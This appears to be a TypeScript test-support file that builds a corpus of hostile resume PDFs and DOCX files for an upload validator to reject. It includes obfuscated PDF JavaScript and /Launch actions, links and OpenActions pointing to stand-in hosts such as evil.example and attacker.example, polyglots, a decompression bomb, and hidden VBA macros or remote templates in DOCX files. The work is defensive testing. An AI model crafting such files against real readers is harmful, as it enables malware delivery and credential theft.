import { deflateSync } from "node:zlib";
import { LINK, objectStreamPdf, resumePdf, SCRIPT, streamObject } from "./pdf-objects.test-support";
import { docx, OLE_HEADER, zip } from "./resume-files.test-support";

export interface CorpusFile {
  what: string;
  name: string;
  bytes: Buffer;
  /** What the check's reason must say, so each file proves the rule it was made for. */
  reason: RegExp;
}

/**
 * The red team's files (issue 26) and their cousins: each is read by pdf.js, pypdf or Word as hostile, and each
 * passed the old text search. Every one must be refused for the reason given.
 */
export function readerHostileResumes(): CorpusFile[] {
  const pdfFile = (what: string, bytes: Buffer, reason: RegExp): CorpusFile => ({
    what,
    name: "resume.pdf",
    bytes,
    reason,
  });
  const docxFile = (what: string, bytes: Buffer, reason: RegExp): CorpusFile => ({
    what,
    name: "resume.docx",
    bytes,
    reason,
  });
  const hiddenScript = "<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>";
  return [
    pdfFile(
      "a PDF whose /JavaScript name tree ends in a NUL",
      resumePdf({
        catalogExtra: "/Names << /JavaScript\0 5 0 R >> ",
        more: ["<< /Names [(a) 6 0 R] >>", "<< /S /JavaScript\0/JS\0(app.alert(1)) >>"],
      }),
      /\/JavaScript/,
    ),
    pdfFile(
      "a PDF whose link launches a program, /Launch ending in a NUL",
      resumePdf({ pageExtra: "/Annots [5 0 R] ", more: [LINK("<< /S /Launch\0/F (cmd.exe) >>")] }),
      /\/Launch/,
    ),
    pdfFile(
      "a PDF whose /Encrypt ends in a NUL",
      resumePdf({ trailerExtra: "/Encrypt\0 5 0 R /ID [<00><00>] ", more: ["<< /Filter /Standard /V 1 /R 2 >>"] }),
      /\/Encrypt/,
    ),
    pdfFile(
      "a PDF whose link runs /Java#53cript",
      resumePdf({ pageExtra: "/Annots [5 0 R] ", more: [LINK("<< /S /Java#53cript /JS (app.alert(1)) >>")] }),
      /\/JavaScript/,
    ),
    pdfFile(
      "a PDF whose OpenAction is JavaScript in an /ASCIIHexDecode object stream",
      objectStreamPdf({ compressed: [SCRIPT], filters: ["ASCIIHexDecode"], catalogExtra: "/OpenAction 5 0 R " }),
      /./,
    ),
    pdfFile(
      "a PDF whose OpenAction is JavaScript in an [/ASCII85Decode /FlateDecode] object stream",
      objectStreamPdf({
        compressed: [SCRIPT],
        filters: ["ASCII85Decode", "FlateDecode"],
        catalogExtra: "/OpenAction 5 0 R ",
      }),
      /./,
    ),
    ...(["ASCIIHexDecode", "ASCII85Decode", "LZWDecode", "RunLengthDecode", "FlateDecode"] as const).map((filter) =>
      pdfFile(
        `a PDF whose link's JavaScript is in a /${filter} object stream`,
        objectStreamPdf({ compressed: [LINK(SCRIPT)], filters: [filter], pageExtra: "/Annots [5 0 R] " }),
        /\/JavaScript/,
      ),
    ),
    pdfFile(
      "a PDF whose object stream hides an object at an offset inside what reads in order as a string",
      objectStreamPdf({
        compressed: ["<< >>", LINK(SCRIPT)],
        filters: ["FlateDecode"],
        pageExtra: "/Annots [6 0 R] ",
        decoded: () => {
          const inside = LINK(SCRIPT);
          const header = "5 0 6 1 ";
          return { data: `${header}(${inside})`, first: header.length };
        },
      }),
      /\/JavaScript/,
    ),
    pdfFile(
      "a PDF whose object stream is behind /DCTDecode, which cannot be read as objects",
      (() => {
        const file = objectStreamPdf({ compressed: ["<< >>"], filters: [] }).toString("latin1");
        return Buffer.from(file.replace("/Type /ObjStm", "/Filter /DCTDecode /Type /ObjStm"), "latin1");
      })(),
      /object stream behind \/DCTDecode/,
    ),
    pdfFile(
      "a PDF whose object stream calls itself an image",
      (() => {
        const file = objectStreamPdf({
          compressed: [LINK(SCRIPT)],
          filters: ["FlateDecode"],
          pageExtra: "/Annots [5 0 R] ",
        });
        return Buffer.from(file.toString("latin1").replace("/Type /ObjStm", "/Subtype /Image /Type /ObjStm"), "latin1");
      })(),
      /\/JavaScript/,
    ),
    pdfFile(
      "a PDF with a stream under a filter no reader knows",
      resumePdf({ more: [streamObject("/Filter /SecretDecode", Buffer.from("5 0 obj"))] }),
      /cannot decode \/SecretDecode/,
    ),
    pdfFile(
      "a PDF with an embedded executable",
      resumePdf({
        catalogExtra: "/Names << /EmbeddedFiles 5 0 R >> ",
        more: [
          "<< /Names [(setup.exe) 6 0 R] >>",
          "<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>",
          streamObject("/Type /EmbeddedFile", Buffer.concat([Buffer.from("MZ\x90\x00", "latin1"), Buffer.alloc(64)])),
        ],
      }),
      /embedded file/,
    ),
    pdfFile(
      "a PDF whose OpenAction opens a URI",
      resumePdf({ catalogExtra: "/OpenAction << /S /URI /URI (https://evil.example/) >> " }),
      /OpenAction/,
    ),
    pdfFile(
      "a PDF whose catalog names its OpenAction twice, the action first and a destination last",
      resumePdf({ catalogExtra: "/OpenAction << /S /URI /URI (https://evil.example/) >> /OpenAction [3 0 R /Fit] " }),
      /OpenAction/,
    ),
    pdfFile(
      "a PDF whose link points at a file: URI (a credential leak)",
      resumePdf({
        pageExtra: "/Annots [5 0 R] ",
        more: [LINK("<< /S /URI /URI (file://attacker.example/share/x) >>")],
      }),
      /\/URI/,
    ),
    pdfFile(
      "a PDF whose page runs an automatic action",
      resumePdf({ pageExtra: "/AA << /O 5 0 R >> ", more: ["<< /S /Named /N /Print >>"] }),
      /\/AA/,
    ),
    pdfFile(
      "a PDF/ZIP polyglot (the archive after %%EOF)",
      Buffer.concat([resumePdf(), zip([{ name: "payload.exe", content: "MZ" }])]),
      /ZIP/,
    ),
    pdfFile(
      "a PDF/ZIP polyglot (the archive inside a stream, ahead of %%EOF)",
      resumePdf({ more: [streamObject("", zip([{ name: "payload.exe", content: "MZ" }]))] }),
      /ZIP/,
    ),
    pdfFile(
      "HTML after a %PDF- header",
      Buffer.from("%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n", "latin1"),
      /pdf: /,
    ),
    pdfFile(
      "a PDF whose header comment is HTML",
      Buffer.concat([Buffer.from("%PDF-1.7\n%<html><script>alert(1)</script>\n", "latin1"), resumePdf().subarray(9)]),
      /HTML/,
    ),
    pdfFile(
      "a PDF with content after its last %%EOF",
      Buffer.concat([resumePdf(), Buffer.from("[(payload the reader never shows)]\n")]),
      /after the last %%EOF/,
    ),
    pdfFile(
      "a PDF whose object hides inside an image's data, reachable by its offset",
      resumePdf({
        more: [
          streamObject(
            "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode",
            Buffer.from(`\xff\xd8\xff\xe0 9 0 obj ${hiddenScript} endobj \xff\xd9`, "latin1"),
          ),
        ],
      }),
      /hidden/,
    ),
    pdfFile(
      "a PDF whose object hides inside a string",
      resumePdf({ more: [`<< /Title (10 0 obj ${hiddenScript.replace(/[()]/g, "")} endobj) >>`] }),
      /hidden/,
    ),
    pdfFile(
      "a PDF whose stream unpacks past the budget (a bomb)",
      resumePdf({ more: [streamObject("/Filter /FlateDecode", deflateSync(Buffer.alloc(40 * 1024 * 1024)))] }),
      /unpacks too large/,
    ),
    pdfFile(
      "a PDF nested deeper than any reader needs",
      resumePdf({ catalogExtra: `/X ${"[".repeat(100)}${"]".repeat(100)} ` }),
      /nested too deep/,
    ),
    pdfFile(
      "a PDF with an encrypted stream (/Crypt)",
      resumePdf({ more: [streamObject("/Filter /Crypt", Buffer.from("x"))] }),
      /encrypted/,
    ),
    docxFile(
      "a DOCX whose VBA project hides under another part name, found by its OLE content",
      docx([{ name: "word/media/image7.png", content: Buffer.concat([OLE_HEADER, Buffer.from("Sub AutoOpen()")]) }]),
      /OLE/,
    ),
    docxFile(
      "a DOCX that declares a VBA project content type for another extension",
      docx([{ name: "word/settings.dat", content: "Sub AutoOpen()" }], {
        types: '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>',
      }),
      /content type/,
    ),
    docxFile(
      "a DOCX whose relationship loads a VBA project under another name",
      docx([
        {
          name: "word/_rels/document.xml.rels",
          content:
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Target="macros.xml" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Id="rId9"/></Relationships>',
        },
        { name: "word/macros.xml", content: "<x/>" },
      ]),
      /macro relationship/,
    ),
    docxFile(
      "a DOCX whose part unpacks past the size its directory declares",
      (() => {
        const archive = docx([], { text: "Dana ".repeat(2000) });
        // The central directory's record of word/document.xml: its unpacked size now says 100 bytes.
        const record =
          archive.indexOf(Buffer.from("word/document.xml"), archive.lastIndexOf(Buffer.from("PK\x01\x02", "latin1"))) -
          46;
        archive.writeUInt32LE(100, record + 24);
        return archive;
      })(),
      /declared size/,
    ),
    docxFile(
      "a DOCX whose settings fetch a remote template (remote template injection)",
      docx([
        {
          name: "word/_rels/settings.xml.rels",
          content:
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        },
      ]),
      /external relationship/,
    ),
  ];
}
